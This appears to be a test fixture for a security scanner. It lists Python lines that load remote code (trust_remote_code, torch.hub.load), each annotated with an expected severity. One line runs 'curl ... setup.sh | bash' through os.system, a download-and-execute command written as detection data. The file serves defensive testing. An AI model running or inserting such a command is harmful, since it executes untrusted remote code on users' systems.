import os
from functools import partial

import torch
from torch import hub
from transformers import AutoModel

AutoModel.from_pretrained("./local", trust_remote_code=True)  # expect: high
AutoModel.from_pretrained("./local", trust_remote_code=args.trust)  # expect: medium
hub.load("pytorch/vision", "resnet18")  # expect: high
build = partial(torch.hub.load, "pytorch/vision")  # expect: high
os.system("curl -s https://example.org/setup.sh | bash")  # expect: remote-code high, download medium, shell low
